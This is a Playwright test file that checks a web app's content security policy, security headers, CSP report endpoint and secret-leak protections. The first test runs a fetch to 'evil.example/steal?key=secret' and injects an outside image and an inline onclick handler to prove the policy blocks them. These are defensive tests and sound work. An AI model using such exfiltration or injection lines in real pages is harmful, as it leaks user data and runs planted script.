import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { PLANTED_ENV, secretIn } from './fixtures/planted-secrets'
import { expect, test } from './fixtures/test'
import type { World } from './fixtures/world'

const HTTPS = { 'x-forwarded-proto': 'https' }
const PAGE = ['/', '/ja/withdraw', '/peg/steth', '/ja/nowhere', '/nowhere/at/all', '/en', '/api']
const API = [
  '/api/snapshot',
  '/api/health',
  '/api/accounts/0x12',
  '/api/nothing',
  '/api/csp-report',
  '/api/peg',
]
const FILE = [
  '/robots.txt',
  '/sitemap.xml',
  '/_next/static/none.js',
  '/.well-known/security.txt',
  '/.well-known/x',
]
const IMAGE = [
  '/icon.svg',
  '/favicon.ico',
  '/manifest.json',
  '/api/peg/steth/badge.svg',
  '/api/peg/doge/badge.svg',
  '/no.png',
]

/** Each page in each language, as the app itself lists them. */
async function everyPage(world: World): Promise<readonly string[]> {
  const text = await (await fetch(`${world.app.url}/sitemap.xml`)).text()
  return [...text.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, url]) => new URL(url ?? '').pathname)
}

/** What the page, or anything in it, asked outside its own origin, and what its policy kept off. */
async function overlook(page: Page, origin: string) {
  const foreign: string[] = []
  const violations: string[] = []
  await page.exposeFunction('tellViolation', (text: string) => violations.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      Reflect.get(
        window,
        'tellViolation',
      )(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`)
    })
  })
  page.on('request', (request) => {
    const { protocol, origin: asked } = new URL(request.url())
    if (!/^(data|blob):$/.test(protocol) && asked !== origin) foreign.push(request.url())
  })
  page.on('websocket', (socket) => foreign.push(socket.url()))
  page.on('console', (message) => {
    if (/content security policy|trusted type|permissions-policy/i.test(message.text()))
      violations.push(message.text())
  })
  return { foreign, violations }
}

test('every page in both languages, with the list of wallets open, asks its own origin only and breaks no policy', async ({
  page,
  world,
  wallet,
}) => {
  test.slow()
  expect(wallet.address).toMatch(/^0x/)
  const pages = await everyPage(world)
  expect(pages.length).toBeGreaterThanOrEqual(24)
  const seen = await overlook(page, world.app.url)
  for (const path of pages) {
    const banner = page.getByRole('banner')
    const connect = banner.getByRole('button', { name: /^(Connect|接続)$/ })
    await page.goto(`${world.app.url}${path}`)
    await expect(connect).toBeEnabled()
    // the page may not be listening yet when its button is first seen
    await expect(async () => {
      await connect.click()
      await expect(page.getByRole('dialog')).toBeVisible({ timeout: 2_000 })
    }).toPass()
    await page.waitForLoadState('networkidle')
    expect({ path, ...seen }).toEqual({ path, foreign: [], violations: [] })
  }
  // and what would be seen if it did
  const isKept = await page.evaluate(async () => {
    const asked = await fetch('https://evil.example/steal?key=secret').then(
      () => 'answered',
      () => 'kept off',
    )
    // taken in by the parser, as markup that got into the page would be
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png" alt="">')
    document.body.insertAdjacentHTML('beforeend', '<a id="planted" onclick="window.isPlanted = true">x</a>')
    document.getElementById('planted')?.click()
    // in a task of its own: what the debugger itself evaluates is exempt from the policy
    const evaluated = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          resolve(String(new Function('return "run"')()))
        } catch {
          resolve('kept off')
        }
      }),
    )
    return { asked, evaluated, planted: Reflect.get(window, 'isPlanted') ?? 'kept off' }
  })
  expect(isKept).toEqual({ asked: 'kept off', evaluated: 'kept off', planted: 'kept off' })
  await expect
    .poll(() =>
      ['connect-src', 'img-src', 'script-src-attr'].filter((name) => !String(seen.violations).includes(name)),
    )
    .toEqual([])
  // browsers gather reports for a minute before they send them
  if (process.env.EVENKEEL_DEEP !== undefined) {
    const counts = async () => (await fetch(`${world.app.url}/api/health?verbose`)).text()
    await expect.poll(counts, { timeout: 150_000 }).toContain('"connect-src"')
  }
  expect(world.app.log()).not.toContain('key=secret')
})

test('every answer is guarded: pages, data, files, pictures and errors', async ({ request }) => {
  const headersOf = async (path: string) => {
    const answer = await request.get(path, { headers: HTTPS, maxRedirects: 0 })
    return { path, status: answer.status(), ...answer.headers() } as Record<string, unknown>
  }
  const all = await Promise.all([...PAGE, ...API, ...FILE, ...IMAGE].map(headersOf))
  for (const headers of all)
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': expect.stringContaining('clipboard-write=(self)'),
      'cross-origin-opener-policy': 'same-origin-allow-popups',
      'x-dns-prefetch-control': 'off',
      'strict-transport-security': 'max-age=31536000',
    })
  for (const path of PAGE) {
    const headers = all.find((each) => each.path === path)
    expect(headers).toMatchObject({
      'content-security-policy': expect.stringMatching(
        /script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic';.*frame-ancestors 'self';/,
      ),
      'x-frame-options': 'SAMEORIGIN',
      'cross-origin-resource-policy': 'same-origin',
      'reporting-endpoints': 'csp="/api/csp-report"',
    })
    const policy = String(headers?.['content-security-policy'])
    expect(policy.replace(/style-src-attr [^;]*/, '')).not.toMatch(/unsafe-/)
  }
  for (const path of [...API, ...FILE])
    expect(all.find((each) => each.path === path)).toMatchObject({
      'content-security-policy':
        "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
      'x-frame-options': 'DENY',
      'cross-origin-resource-policy': 'same-origin',
    })
  for (const path of IMAGE)
    expect(all.find((each) => each.path === path)).toMatchObject({
      'content-security-policy': expect.stringMatching(/^default-src 'none';.* sandbox$/),
      'cross-origin-resource-policy': 'cross-origin',
    })
  const plain = await request.get('/')
  expect(plain.headers()['strict-transport-security']).toBeUndefined()
  const again = await request.get('/')
  expect(again.headers()['content-security-policy']).not.toBe(plain.headers()['content-security-policy'])
})

test('reports of the policy: both forms are taken, garbage and floods are not', async ({ request }) => {
  const send = (type: string, data: string) =>
    request.post('/api/csp-report', {
      headers: { 'content-type': type, 'x-forwarded-for': '203.0.113.9' },
      data,
    })
  const report = {
    'document-uri': 'http://a.example/x',
    'blocked-uri': 'eval',
    'effective-directive': 'font-src',
  }
  const old = await send('application/csp-report', JSON.stringify({ 'csp-report': report }))
  expect(old.status()).toBe(204)
  const body = { documentURL: 'http://a.example/x', blockedURL: 'eval', effectiveDirective: 'media-src' }
  const fresh = await send('application/reports+json', JSON.stringify([{ type: 'csp-violation', body }]))
  expect(fresh.status()).toBe(204)
  expect((await send('application/csp-report', '{')).status()).toBe(400)
  expect((await send('application/csp-report', 'x'.repeat(20_000))).status()).toBe(413)
  const flood = await Promise.all(
    Array.from({ length: 40 }, () => send('application/csp-report', '{}').then((answer) => answer.status())),
  )
  expect(flood).toContain(429)
})

test('the operator decides who may frame the pages and who is told of weaknesses', async ({ world }) => {
  const app = await world.startApp({
    EVENKEEL_FRAME_ANCESTORS: 'safe,https://wallet.example',
    EVENKEEL_SECURITY_CONTACT: 'https://stake.example/security',
    EVENKEEL_PUBLIC_URL: 'https://stake.example',
  })
  try {
    const page = await fetch(`${app.url}/ja/withdraw`)
    expect(page.headers.get('content-security-policy')).toContain(
      "frame-ancestors 'self' https://app.safe.global https://wallet.example;",
    )
    expect(page.headers.get('x-frame-options')).toBeNull()
    const told = await fetch(`${app.url}/.well-known/security.txt`)
    expect(await told.text()).toMatch(
      /^Contact: https:\/\/stake\.example\/security\nExpires: 20\d\d-[^\n]+\nPreferred-Languages: en, ja\nCanonical: https:\/\/stake\.example\/\.well-known\/security\.txt\n$/,
    )
  } finally {
    await app.stop()
  }
  expect((await fetch(`${world.app.url}/.well-known/security.txt`)).status).toBe(404)
})

test('no secret of the environment is in any answer, in any state of health, or in the log', async ({
  world,
}) => {
  const app = await world.startApp({ ...PLANTED_ENV, EVENKEEL_LOG_LEVEL: 'debug', EVENKEEL_METRICS: 'on' })
  const answers: string[] = []
  const ask = async (path: string, init: RequestInit = {}) => {
    const answer = await fetch(`${app.url}${path}`, { ...init, redirect: 'manual' })
    answers.push(`${path} ${answer.status} ${JSON.stringify([...answer.headers])} ${await answer.text()}`)
  }
  try {
    const account = '0x000000000000000000000000000000000000dEaD'
    for (const path of [...routes(), ...PAGE, '/api/health?verbose', '/api/health?live']) {
      const asked = path.replace('[address]', account).replace(/\[[a-z]+\]/g, 'steth')
      await ask(asked)
      await ask(asked, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"x":' })
    }
    for (const method of ['eth_call', 'eth_getLogs', 'eth_sendRawTransaction', 'nothing'])
      await ask('/api/rpc', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params: [{}, 'latest'] }),
      })
  } finally {
    await app.stop()
  }
  expect(answers.length).toBeGreaterThan(40)
  expect(answers.some((answer) => answer.includes('rpc-unreachable'))).toBe(true)
  const told = [...answers, `the log ${app.log()}`]
    .map((text) => ({ from: text.slice(0, 60), shape: secretIn(text) }))
    .filter(({ shape }) => shape !== undefined)
  expect(told).toEqual([])
  // and what would be found if one did
  const [url] = PLANTED_ENV.RPC_URLS.split(',')
  const { username, password } = new URL(url ?? '')
  expect(secretIn(`Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`)).toBeDefined()
})

test('what the build serves names no secret and no variable that holds one', () => {
  const served = [...filesIn('.next/static'), ...filesIn('public')]
  const texts = served.map((file) => ({ file, text: readFileSync(file, 'latin1') }))
  expect(texts.length).toBeGreaterThan(20)
  const variables = /RPC_URLS|REDIS_URL|DATABASE_URL|WEBHOOK_SECRET|WEBHOOK_URL|INDEXER_URL|KILL_SWITCH/
  const found = texts.filter(({ text }) => secretIn(text) !== undefined || variables.test(text))
  expect(found.map(({ file }) => file)).toEqual([])
  // rendered ahead of time: nothing of it may come from the machine that built
  const ahead = filesIn('.next/server').filter((file) => /\.(html|rsc|body|meta)$/.test(file))
  expect(ahead.filter((file) => secretIn(readFileSync(file, 'latin1')) !== undefined)).toEqual([])
})

/** Paths of the API as the code has them. */
function routes(): readonly string[] {
  return filesIn('app/api')
    .filter((file) => file.endsWith('route.ts'))
    .map((file) => file.slice('app'.length, -'/route.ts'.length))
}

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name)
    return statSync(path).isDirectory() ? filesIn(path) : [path]
  })
}
